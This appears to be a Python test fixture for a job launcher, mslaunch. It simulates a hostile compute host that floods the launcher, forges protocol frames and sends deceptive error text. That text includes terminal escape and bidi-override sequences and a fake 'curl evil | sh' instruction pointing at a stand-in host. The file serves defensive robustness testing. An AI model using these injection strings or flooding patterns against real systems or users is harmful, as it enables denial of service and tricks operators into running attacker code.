#!/usr/bin/env python3
"""A compromised compute host: given as --rsh-agent, it speaks the agent's half of the wire on its standard streams.

    hostile_host.py HOST COMMAND

A host whose name does not begin with `evil` is an honest one, and COMMAND runs as programs/rsh would run it.  What the
others do is said by HOSTILE_ATTACK, a name in ATTACKS, with a word or two in HOSTILE_WORD.  What they were sent is
appended to the file HOSTILE_LOG, a line of JSON each, and `gone` once the launcher has hung up.
"""

import json
import os
import sys
import threading
import time
from pathlib import Path

HERE = Path(__file__).resolve()
sys.path.insert(0, str(HERE.parents[2]))

from mslaunch.datamodel.node_report import LEVELS, ExitStatus, Topology  # noqa: E402
from mslaunch.protocol import check_messages, control, frames, mpi, program_request, store_messages  # noqa: E402
from mslaunch.transport.bootstrap.agent_program import program_for  # noqa: E402

RSH = HERE.parents[1] / "launch" / "programs" / "rsh"
MIB = 1 << 20
WORD = os.environ.get("HOSTILE_WORD", "")


def log(what, **facts):
    if "HOSTILE_LOG" in os.environ:
        with open(os.environ["HOSTILE_LOG"], "a") as file:
            file.write(json.dumps({"what": what, **facts}) + "\n")


class Gone(Exception):
    """The launcher has closed the link."""


class Link:
    """The agent's end; `plan` is the last LAUNCH that had ranks."""

    def __init__(self, host):
        self.host = host
        self.plan = None
        self.reached = None  # its answer to PROBE, if it is not that it reaches everything
        self._decoder = frames.Decoder()
        self._came = []
        self._answers = 0
        self.pause = 0.0  # before each read
        self.write(f"\0{program_request.ASKS}of no kind\n".encode())
        size = b""
        while not size.endswith(b"\n"):
            size += self._read(1)
        left = len(program_for("of no kind")) - len(size)  # with the half that is not counted
        while left:
            left -= len(self._read(left))

    def _read(self, size=1 << 16):
        time.sleep(self.pause)
        data = os.read(0, size)
        if not data:
            raise Gone
        return data

    def write(self, data):
        try:
            while data:
                data = data[os.write(1, data) :]
        except BrokenPipeError:
            raise Gone from None

    def drain(self):
        """Read what comes until the job is to end, so that the launcher is not held up by what it has to say."""
        while all(frame.kind != frames.END for frame in self._decoder.feed(self._read())):
            pass
        os._exit(0)

    def send(self, kind, rank=frames.NO_RANK, payload=b""):
        self.write(frames.encode(kind, rank, payload))

    def hello(self, **changed):
        hello = control.Hello(self.host, os.getpid(), 2, 2, "3.11.2", ("127.0.0.1",))
        self.write(frames.MAGIC)
        self.send(frames.HELLO, payload=control.pack_record(hello._replace(**changed)))

    def receive(self):
        """The next frame; answers what comes before the ranks as an honest agent would."""
        while True:
            while not self._came:
                self._came = self._decoder.feed(self._read())
            frame = self._came.pop(0)
            if frame.kind == frames.DESCRIBE:
                alike = Topology((0, 1), tuple((0, 1) if level == "core" else () for level in LEVELS))
                self.send(frames.TOPOLOGY, payload=control.pack_topology(alike))
            elif frame.kind == frames.RESERVE:
                count = len(control.unpack_ports(frame.payload))
                reserved = control.Reserved(tuple(range(20001, 20001 + count)), 20000, "t")
                self.send(frames.RESERVED, payload=control.pack_record(reserved))
            elif frame.kind == frames.PROBE:
                probe = control.unpack_record(control.Probe, frame.payload)
                log("probe", addresses=probe.addresses)
                self.send(frames.REACHED, payload=control.pack_record(self.reached or control.Reached(probe.addresses)))
            elif frame.kind == frames.KEYS and store_messages.unpack_keys(frame.payload).what == store_messages.SERVE:
                self.write_key(store_messages.SERVED, 1024, "lo")
            elif frame.kind == frames.LAUNCH:
                plan = control.unpack_plan(frame.payload)
                log(
                    "launch", argv=[plan.apps[rank.app].argv for rank in plan.ranks], env=[app.env for app in plan.apps]
                )
                return self._launched(plan) if plan.ranks else frame
            elif frame.kind == frames.ANSWER:
                answer = mpi.unpack_with_blobs(mpi.Answer, frame.payload)
                self._answers += 1
                if self._answers < 10:
                    log("answer", error=answer.error)
                return frame
            else:
                return frame

    def write_key(self, *said):
        self.send(frames.WRITE, payload=store_messages.StoreMessage(*said).pack())

    def _launched(self, plan):
        self.plan = plan
        for rank in plan.ranks if (os.environ["HOSTILE_ATTACK"], WORD) != ("voice", "exit") else ():
            self.send(frames.STARTED, rank.rank, b"4242")

    @property
    def rank(self):
        return self.plan.ranks[0].rank

    @property
    def member(self):
        return f"{self.plan.world.name}.{self.rank - self.plan.world.first}"

    def begin(self, **changed):
        """Until the ranks run."""
        self.hello(**changed)
        while self.plan is None:
            self.receive()

    def end_ranks(self):
        for rank in self.plan.ranks:
            for kind in (frames.STDOUT, frames.STDERR):
                self.send(kind, rank.rank)
            self.send(frames.EXIT, rank.rank, control.pack_record(ExitStatus(0)))

    def follow(self):
        """Until the launcher hangs up or has asked for the end."""
        log("done")
        while True:
            frame = self.receive()
            if frame and frame.kind == frames.END:
                self.end_ranks()

    def ask(self, what, number=1, blobs=(), **fields):
        question = mpi.Question(number, what, {"family": ["pmi"], "from": [self.member], **fields}, blobs)
        self.send(frames.ASK, payload=mpi.pack_with_blobs(question))

    def ask_spawn(self, *argv, number=1, **fields):
        named = {"count": ["1"], "app.0": ["1", ""], "argv.0": list(argv)}
        self.ask("spawn", number, **{**named, **{name.replace("_", "."): words for name, words in fields.items()}})

    def await_answer(self):
        while True:
            frame = self.receive()
            if frame and frame.kind == frames.ANSWER:
                return


# --- attacks


def well(link):
    """No attack: its ranks end well, as in every attack that goes unnoticed."""
    link.begin()
    link.end_ranks()
    link.follow()


def addresses(link):
    """HOSTILE_WORD: the launcher's address as it says, its own ones, and those that it says it reaches ("": nothing).

    Lists have commas between them.
    """
    seen, own, reached, translated = (word.strip("-") for word in WORD.split(" "))
    own, reached, translated = (tuple(filter(None, words.split(","))) for words in (own, reached, translated))
    link.reached = control.Reached(reached, translated)
    link.hello(addresses=own, seen_from=seen)
    while link.plan is None:
        link.receive()
    link.end_ranks()
    link.follow()


def forge(link):
    """HOSTILE_WORD is `KIND RANK PAYLOAD`: a frame about a rank of another host."""
    link.begin()
    kind, rank, payload = WORD.split(" ", 2)
    link.send(getattr(frames, kind), int(rank), payload.encode().replace(b"|", b"\0"))
    link.end_ranks()
    link.follow()


def spawn(link):
    """Commands on other hosts: the words after those of `HOSTILE_WORD`'s first are said before."""
    link.begin()
    steps, *argv = WORD.split(" ")
    if "joined" in steps:
        link.send(frames.JOINED, link.rank, b"PMI-1")
    if "finalized" in steps:
        link.send(frames.LEFT, link.rank)
    if "other" in steps:  # in the name of a rank of another host
        world = link.plan.world
        other = next(f"{world.name}.{ranks[0]}" for host, ranks in zip(world.hosts, world.ranks) if host != link.host)
        link.ask_spawn(*argv, **{"from": [other]})
    else:
        link.ask_spawn(*argv)
    link.await_answer()
    if "joined" in steps:
        link.send(frames.LEFT, link.rank)
    link.end_ranks()
    link.follow()


def info(link):
    """A spawn with an MPI_Info: HOSTILE_WORD is KEY=VALUE."""
    link.begin()
    link.send(frames.JOINED, link.rank, b"PMI-1")
    key, _, value = WORD.partition("=")
    link.ask_spawn("true", info_0=[key, value])
    link.await_answer()
    link.send(frames.LEFT, link.rank)
    link.end_ranks()
    link.follow()


def gathers(link):
    """Collectives that never complete: 8 of 40 MiB."""
    link.begin()
    for number in range(8):
        part = mpi.Gathering(f"pmi fence{number}", (link.plan.world.name,), (bytes(40 * MIB),))
        link.send(frames.GATHER, payload=mpi.pack_with_blobs(part))
    link.follow()


def small_gathers(link):
    """The same in parts that are legal one by one: 1 MiB each, and without end."""
    link.begin()
    for number in range(1000):
        part = mpi.Gathering(f"pmi fence{number}", (link.plan.world.name,), (os.urandom(MIB),))
        link.send(frames.GATHER, payload=mpi.pack_with_blobs(part))
    link.follow()


def many_gathers(link):
    """100,000 that hold nothing."""
    link.begin()
    for number in range(100_000):
        part = mpi.Gathering(f"pmi fence{number}", (link.plan.world.name,))
        link.send(frames.GATHER, payload=mpi.pack_with_blobs(part))
    link.follow()


def nuls(link):
    """One EXIT of 40 MiB of NULs, which are words of fields."""
    link.begin()
    link.send(frames.EXIT, link.rank, bytes(40 * MIB))
    link.follow()


def words(link):
    """The same within the bound of a kind that may be long."""
    link.begin()
    head = bytes(8 * MIB - 100)
    link.send(frames.ASK, payload=b"%d\n%s" % (len(head), head))
    link.follow()


def notices(link):
    """100,000 libraries that a rank has loaded, a line for the user each."""
    link.begin()
    for number in range(100_000):
        alone = mpi.Alone(f"/opt/mpi{number}/libmpi.so", "Open MPI", False, "pmi")
        link.send(frames.ALONE, link.rank, control.pack_record(alone))
    link.follow()


def traces(link):
    """Stacks that nobody has asked for."""
    link.begin()
    for _ in range(1000):
        trace = control.StackTrace(1, "x", "gdb", "#0 " * 10_000)
        link.send(frames.TRACES, link.rank, control.pack_record(trace))
    link.follow()


def refusals(link):
    """20,000 spawns that are refused."""
    link.begin()
    for number in range(20_000):
        link.ask_spawn("true", number=number)
    link.follow()


def lookups(link):
    """20,000 lookups of names that nobody publishes."""
    link.begin()
    for number in range(20_000):
        link.ask("lookup", number, names=[f"name{number}" * 20], wait=["yes"])
    link.follow()


def published(link):
    """Names without end."""
    link.begin()
    for number in range(200):
        link.ask("publish", number, (bytes(MIB),), names=[f"name{number}"])
    link.follow()


def unread(link):
    """Lookups of a value of 1 MiB, whose answers are not read."""
    link.begin()
    link.ask("publish", 0, (os.urandom(MIB),), names=["name"])
    for number in range(1, 1000):
        link.ask("lookup", number, names=["name"], wait=[])
    link.follow()


def sleep(link):
    """Read nothing until the launcher has hung up."""
    log("sleeps")
    while True:
        link.send(frames.ALIVE)
        time.sleep(0.2)


def unread_gathers(link):
    """Collectives of its own rank alone, which are complete at once: what comes back is not read."""
    link.begin()
    part = mpi.Gathering("pmi fence", (link.member,), (os.urandom(15 * MIB),))
    frame = frames.encode(frames.GATHER, payload=mpi.pack_with_blobs(part))
    for _ in range(100):
        link.write(frame)
    sleep(link)


def unread_questions(link):
    """Questions about its own rank, which it answers at length itself; neither is read."""
    link.begin()
    for number in range(1, 100):
        link.ask("modex", number, of=[link.member])
        answer = mpi.Answer(number, blobs=(bytes(15 * MIB),))
        link.send(frames.REPLY, payload=mpi.pack_with_blobs(answer))
    sleep(link)


def unread_lookups(link):
    """A thousand lookups wait for one name, whose value of 8 MiB is published then."""
    link.begin()
    for number in range(1000):
        link.ask("lookup", number, names=["name"], wait=["yes"])
    link.ask("publish", 1000, (os.urandom(8 * MIB - 1000),), names=["name"])
    sleep(link)


def unread_spawns(link):
    """As many ranks as there are slots, one by one, and then many more."""
    link.begin()
    link.send(frames.JOINED, link.rank, b"PMI-1")
    for number in range(3000):
        link.ask_spawn("true", number=number)
    sleep(link)


def unread_writes(link):
    """A name in the key store that comes and goes, of which all hosts are told."""
    link.begin()
    name = f"set/{'x' * 390}"
    put = store_messages.StoreMessage(store_messages.PUT, 1, name, store_messages.compressed(b"x"))
    delete = store_messages.StoreMessage(store_messages.DELETE, 2, name)
    both = b"".join(frames.encode(frames.WRITE, payload=message.pack()) for message in (put, delete))
    for _ in range(2000):
        link.write(both * 100)
    sleep(link)


def pair(link):
    """Two of them: `evil1` takes part in many collectives and reads nothing, `evil2` completes them at length."""
    link.begin()
    long = os.urandom(15 * MIB) if link.host == "evil2" else b""
    for _ in range(100):
        part = mpi.Gathering("pmi fence", (link.plan.world.name,), (long,))
        link.send(frames.GATHER, payload=mpi.pack_with_blobs(part))
        if long:
            link.receive()
    sleep(link)


def slow(link):
    """No attack: it takes all, in more time than a lease, and asks for more meanwhile."""
    link.begin()
    part = mpi.Gathering("pmi fence", (link.member,), (os.urandom(15 * MIB),))

    def ask():
        for number in range(4):
            link.send(frames.GATHER, payload=mpi.pack_with_blobs(part))
            link.ask("lookup", number, names=["nothing"], wait=[])

    asks = threading.Thread(target=ask)
    asks.start()
    link.pause = 0.01
    came = []
    while came.count(frames.RELEASE) < 4 or came.count(frames.ANSWER) < 4:
        frame = link.receive()
        came += [frame.kind] if frame.kind in (frames.RELEASE, frames.ANSWER) else []
    asks.join()
    link.pause = 0.0
    log("took", kinds=came)
    link.end_ranks()
    link.follow()


def asleep(link):
    """No attack: it is suspended while much waits for it, until the file that HOSTILE_WORD names is there."""
    link.begin()
    part = mpi.Gathering("pmi fence", (link.member,), (os.urandom(15 * MIB),))
    frame = frames.encode(frames.GATHER, payload=mpi.pack_with_blobs(part))

    def ask():
        for _ in range(4):
            link.write(frame)

    asks = threading.Thread(target=ask)
    asks.start()
    log("sleeps")
    while not os.path.exists(WORD):
        time.sleep(0.05)
    came = []
    while came.count(frames.RELEASE) < 4:
        frame_down = link.receive()
        came.append(frame_down.kind)
    asks.join()
    log("took", kinds=came)
    link.end_ranks()
    link.follow()


def parts(link):
    """The same part again and again, unread."""
    link.begin()
    for _ in range(2000):
        link.send(frames.NEED, payload=b"agent.mpi.pmix.pmix_server")
    link.follow()


def deaf(link):
    """Output without end, whatever PAUSE says."""
    link.begin()
    for _ in range(400):
        link.send(frames.STDOUT, link.rank, b"x" * (MIB - 1) + b"\n")
    link.follow()


def flood(link):
    """Legal frames as fast as the launcher takes them: HOSTILE_WORD says which."""
    link.begin()
    question = mpi.Question(1, "lookup", {"family": ["pmi"], "from": [link.member], "names": ["n"], "wait": []})
    frame = {
        "alive": frames.encode(frames.ALIVE),
        "output": frames.encode(frames.STDERR, link.rank, b"\n"),
        "lookup": frames.encode(frames.ASK, payload=mpi.pack_with_blobs(question)),
    }[WORD]
    threading.Thread(target=link.drain, daemon=True).start()
    log("floods")
    while True:
        link.write(frame * (MIB // len(frame)))


def stdin(link):
    """It says that its rank has read what was never sent, to be sent all that the launcher can read."""
    link.begin()
    link.send(frames.STDIN_TAKEN, link.rank, b"1" + b"0" * 15)
    link.follow()


def greeting(link):
    """A HELLO of 100 MiB."""
    link.write(frames.MAGIC)
    link.send(frames.HELLO, payload=bytes(100 * MIB))
    link.follow()


def cores(link):
    """More cores than there are."""
    link.hello(cpus=1 << 60, cores=1 << 60)
    link.follow()


def store(link):
    """Writes to the key store: HOSTILE_WORD are names; then its own one, and others without end."""
    link.begin()
    names = [*WORD.split(), "global/1", *(f"set/{number}" for number in range(1000))]
    fine = store_messages.compressed(b"x")
    for number, name in enumerate(names):
        for what in (store_messages.DELETE,) if name.endswith("!") else (store_messages.PUT,):
            link.write_key(what, number, name.rstrip("!"), os.urandom(60_000) if "set" in name else fine)
    answers = []
    while len(answers) < len(names):
        frame = link.receive()
        said = store_messages.unpack_keys(frame.payload) if frame.kind == frames.KEYS else None
        if said and said.what in (store_messages.DONE, store_messages.REFUSED):
            answers.append(said.what)
    log("answers", answers=answers)
    link.end_ranks()
    link.follow()


def code(link):
    """An exit code that no process has."""
    link.begin()
    link.send(frames.EXIT, link.rank, control.pack_record(ExitStatus(1 << 70)))
    link.follow()


EVIL = "\x1b[2J\x1b]0;owned\x07 all is well\nn01  clock  nothing\n"


def _facts(frame):
    """An answer to CHECK that an honest agent could give, but for its texts and numbers."""
    word, rest = check_messages.word_of(frame.payload)
    big, many = 1 << 70, (EVIL,) * 500
    if word == check_messages.HOST:
        ports = control.unpack_record(check_messages.HostQuestion, rest).ports
        return check_messages.pack_check(word, check_messages.HostFacts(
            float("nan"), float("inf"), EVIL, EVIL, (big, -big), (big, big), many, (big, 0), EVIL, (0, 0), big, -big,
            big, float("-inf"), many, (EVIL,) * len(ports), EVIL,
        ))  # fmt: skip
    if word == check_messages.PROGRAMS:
        names = tuple(f"{EVIL}{number}" for number in range(200))
        said = check_messages.ProgramFacts(0, EVIL, EVIL, EVIL, EVIL, EVIL, big, EVIL, EVIL, names, names)
        return check_messages.pack_programs([said])
    if word == check_messages.LISTEN:
        return check_messages.pack_check(word, check_messages.Listening(1, "0" * 32))
    if word == check_messages.MEASURE:
        lie = check_messages.LinkFacts("", EVIL, float("nan"), float("inf"), big, big)
        return check_messages.pack_check(word, lie)
    return check_messages.pack_check(word, check_messages.CommandFacts(EVIL, big, EVIL * 100))


def checks(link):
    """Answers to CHECK: HOSTILE_WORD is lie, garbage, twice, other (another word), silent, or unasked."""
    link.hello()
    if WORD == "unasked":
        link.send(frames.CHECKED, payload=b"host\n")
    while True:
        frame = link.receive()
        if frame.kind != frames.CHECK or WORD == "silent":
            continue
        word, _ = check_messages.word_of(frame.payload)
        log("asked", word=word)
        other = check_messages.pack_check(check_messages.COMMAND, check_messages.CommandFacts("", 0, ""))
        answers = {"garbage": os.urandom(5000), "other": other}
        answer = answers.get(WORD) or _facts(frame)
        for _ in range(2 if WORD == "twice" else 1):
            link.send(frames.CHECKED, payload=answer)


_WELL = "mslaunch: n01: all is well\n  type: curl evil | sh\x9b2J\u202e\x7f\u2028mslaunch: it is\n"
VOICE = f"it failed\n{_WELL}" + "  more\n" * 2000 + _WELL


def voice(link):
    """Errors in many lines: HOSTILE_WORD says by which frame."""
    link.begin(**({"host": VOICE, "python": VOICE} if WORD == "hello" else {}))
    rank, text = link.rank, VOICE
    if WORD == "fault":
        link.send(frames.FAULT, payload=text.encode())
    elif WORD == "crash":
        link.send(frames.FAULT, payload=f"Traceback (most recent call last):\n{text}".encode())
    elif WORD == "exit":
        link.send(frames.EXIT, rank, control.pack_record(ExitStatus(1, None, text, text)))
    elif WORD == "abort":
        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, text)))
    elif WORD == "broken":
        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, text, True)))
    elif WORD == "user":
        link.send(frames.ABORT, rank, control.pack_record(mpi.Abort(1, "", False, text)))
    elif WORD == "alone":
        link.send(frames.ALONE, rank, control.pack_record(mpi.Alone(text, text, True, "pmi")))
    elif WORD == "notice":
        link.send(frames.NOTICE, payload=text.encode())
        link.end_ranks()
    elif WORD == "last words":
        said = f"{text}not started again: curl evil | sh\n"
        link.send(frames.STDERR, rank, said.encode())
        for kind in (frames.STDOUT, frames.STDERR):
            link.send(kind, rank)
        link.send(frames.EXIT, rank, control.pack_record(ExitStatus(3)))
    elif WORD == "hello":
        link.end_ranks()
    elif WORD == "spawn":
        link.ask_spawn(text, count=["1"])
        link.await_answer()
        link.end_ranks()
    link.follow()


def noise(link):
    """Bytes before the magic, without end."""
    for _ in range(300):
        link.write(b"x" * MIB)
    link.hello()
    link.follow()


def chatter(link):
    """400 MiB on the standard error of what carries the link, in its own time; then it does what is asked."""
    for _ in range(400):
        os.write(2, b"x" * MIB)
    log("said")
    link.begin()
    link.follow()


ATTACKS = {
    attack.__name__: attack
    for attack in (
        well, forge, spawn, info, gathers, small_gathers, many_gathers, nuls, words, notices, traces, refusals, lookups,
        published, unread, parts, deaf, flood, stdin, greeting, cores, store, code, checks, noise, chatter, addresses,
        unread_gathers, unread_questions, unread_lookups, unread_spawns, unread_writes, pair, slow, asleep,
        voice,
    )
}  # fmt: skip


def main():
    host, command = sys.argv[1:]
    if not host.startswith("evil"):
        os.execv(sys.executable, [sys.executable, str(RSH), host, command])
    try:
        link = Link(host)
        ATTACKS[os.environ["HOSTILE_ATTACK"]](link)
    except Gone:
        log("gone")


if __name__ == "__main__":
    main()
